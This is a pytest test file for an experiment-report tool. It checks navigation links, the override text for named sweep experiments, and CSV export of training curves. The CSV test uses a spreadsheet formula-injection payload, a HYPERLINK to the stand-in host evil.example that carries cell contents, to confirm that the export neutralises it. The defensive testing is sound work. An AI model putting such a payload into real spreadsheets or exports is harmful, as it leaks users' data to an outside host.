"""The experiment page's table of contents, its "back to top" links, a named experiment's overrides line,
and its curves' CSV download (quoted, no spreadsheet formula)."""

from __future__ import annotations

import base64
import csv
import html
import io
import json
import re
from pathlib import Path

import pytest
import yaml
from tiny_runs import two_deliverables

from gptlineage.cli import main
from gptlineage.lineage.walk import Node
from gptlineage.pipeline.sweeps import experiments, overridden
from gptlineage.reporting.results import curve_csv

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def deliverables(tmp_path_factory) -> dict[str, Path]:
    return two_deliverables(tmp_path_factory.mktemp("deliverables"))


@pytest.fixture(scope="module")
def named(deliverables) -> Path:
    """B's deliverable again, as the workflow writes a sweep's named experiment: --name and its overrides."""
    tree = deliverables["b"].parent
    parts = [f"model={tree / 'train' / 'sft_stage2'}", f"prompt_suite={tree / 'prompt_suite'}"]
    overrides = ["sft_stage2.lr=0.03", "sft_stage2.steps=5"]
    argv = ["experiment", *(f"--part={p}" for p in parts), "--name", "lr_high"]
    assert main([*argv, *(f"--override={o}" for o in overrides), "--output", str(tree / "lr_high")]) == 0
    return tree / "lr_high"


def test_the_page_has_a_table_of_contents_whose_every_link_lands(deliverables):
    text = (deliverables["a"] / "index.html").read_text()
    toc = re.search(r'<nav class="toc".*?</nav>', text, re.S).group(0)
    links = re.findall(r'href="#([^"]+)"', toc)
    assert links[:2] == ["results", "stages"] and links[-2:] == ["graph", "contents"]
    assert {"prompt-suite", "matched", "decoding", "parts"} <= set(links)
    ids = set(re.findall(r'\bid="([^"]+)"', text))
    assert set(links) <= ids, set(links) - ids  # every entry goes somewhere
    assert text.index('<nav class="toc"') < text.index('<section id="results">')  # at the top


def test_every_section_leads_back_to_the_top(deliverables):
    text = (deliverables["a"] / "index.html").read_text()
    assert '<body id="top">' in text and '<a class="to-top" href="#top"' in text  # always in reach
    sections = re.findall(r"<section[^>]*>.*?</section>", text, re.S)
    artifacts = [s for s in sections if 'class="artifact"' in s]
    assert artifacts and all('<a href="#top">back to top</a>' in s for s in artifacts)
    for landmark in ('<section id="graph">', '<section id="contents">', '<section id="results">'):
        after = text[text.index(landmark) :]
        assert '<a href="#top">back to top</a>' in after[: after.index("</section>")], landmark


def test_a_named_experiment_says_what_it_overrides(named, deliverables):
    text = (named / "index.html").read_text()
    line = re.search(r'<p class="overrides">(.*?)</p>', text, re.S).group(1)
    plain = " ".join(html.unescape(re.sub(r"<[^>]+>", "", line)).split())
    assert plain == (
        "A named experiment of a sweep: it overrides the default experiment's sft_stage2.lr (to 0.03), "
        "sft_stage2.steps (to 5); every other setting is the default's."
    )
    recorded = json.loads((named / "manifest.json").read_text())["parameters"]
    assert recorded["name"] == "lr_high" and recorded["overrides"] == ["sft_stage2.lr=0.03", "sft_stage2.steps=5"]
    default = (deliverables["a"] / "index.html").read_text()
    assert 'class="overrides"' not in default  # the default experiment overrides nothing
    assert "overrides" not in json.loads((deliverables["a"] / "manifest.json").read_text())["parameters"]


def test_a_bad_override_is_one_error_line(deliverables, tmp_path, capsys):
    part = f"--part=model={deliverables['a'].parent / 'train' / 'sft_stage2'}"
    assert main(["experiment", part, "--override", "lr 0.03", "--output", str(tmp_path / "x")]) != 0
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--override must be SLICE.KEY=VALUE" in err and not (tmp_path / "x").exists()


def test_the_workflow_passes_what_a_named_experiment_sets_otherwise_than_the_default():
    config = yaml.safe_load((ROOT / "config.yaml").read_text())
    lr = config["sft_stage2"]["lr"]
    config["experiments"] = {
        "lr_high": {"sft_stage2": {"lr": lr * 4}},
        "same": {"sft_stage2": {"lr": lr}},  # an override to the default's value changes nothing
        "two": {"synth_chat": {"suite_prompts": 70}, "sft_stage2": {"lr": lr * 2, "start": "final"}},
    }
    sweep = experiments(config)
    default = sweep[""].config
    assert overridden(default, sweep["lr_high"].config) == [f"sft_stage2.lr={json.dumps(lr * 4)}"]
    assert overridden(default, sweep["same"].config) == []
    changed = overridden(default, sweep["two"].config)
    assert "synth_chat.suite_prompts=70" in changed and f"sft_stage2.lr={json.dumps(lr * 2)}" in changed
    assert ("sft_stage2.start=final" in changed) == (config["sft_stage2"].get("start") != "final")


def test_the_curves_csv_quotes_its_cells_and_holds_no_formula(tmp_path):
    """A crafted metrics.json (red-team round 5, f12): a newline or comma stays in its cell, a text
    cell that opens a formula gets a leading `'`, and numbers (-0.5, +1) stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    points = [
        {"step": 1, "phase": "train", "loss": -0.5, "learning_rate": 0.001},
        {"step": 2, "phase": formula, "loss": 1.0},
        {"step": 3, "phase": "train\nInjected,row,here", "loss": "+1", "learning_rate": "@SUM(A1)"},
        {"step": 4, "phase": "-2+3", "loss": "\t=1", "learning_rate": None},
    ]
    (tmp_path / "metrics.json").write_text(json.dumps({"points": points}), encoding="utf-8")
    uri = curve_csv(Node(tmp_path, {"files": [{"path": "metrics.json"}]}, 0))
    rows = list(csv.reader(io.StringIO(base64.b64decode(uri.split(",", 1)[1]).decode("utf-8"))))
    assert rows == [
        ["step", "phase", "loss", "learning_rate"],
        ["1", "train", "-0.5", "0.001"],
        ["2", "'" + formula, "1.0", ""],
        ["3", "train\nInjected,row,here", "+1", "'@SUM(A1)"],
        ["4", "'-2+3", "'\t=1", ""],
    ]
